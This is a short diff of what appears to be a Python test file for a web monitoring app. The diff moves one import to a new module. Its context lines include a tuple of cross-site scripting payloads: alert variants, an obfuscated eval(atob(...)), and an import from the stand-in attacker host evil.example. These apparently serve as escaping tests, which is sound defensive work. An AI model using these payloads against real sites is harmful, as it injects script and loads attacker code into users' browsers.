@@ -14,10 +14,10 @@ from lxml import html
 from kit.copies import opened_copy
 from kit.desk import account, client
 from kit.home import Clock
-from kit.queue_desk import followed, judge, search, sign_in
 from kit.store import MELIS, NOW, filed, hit, mention, watch
 from monitor.model import Entity, EntityType, Field, Role, Run, Span
 from monitor.web import create_desk
+from web.queue_desk import followed, judge, search, sign_in
 
 _SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example')", "eval(atob('YWxlcnQoMSk='))")
 _SHAPES = (
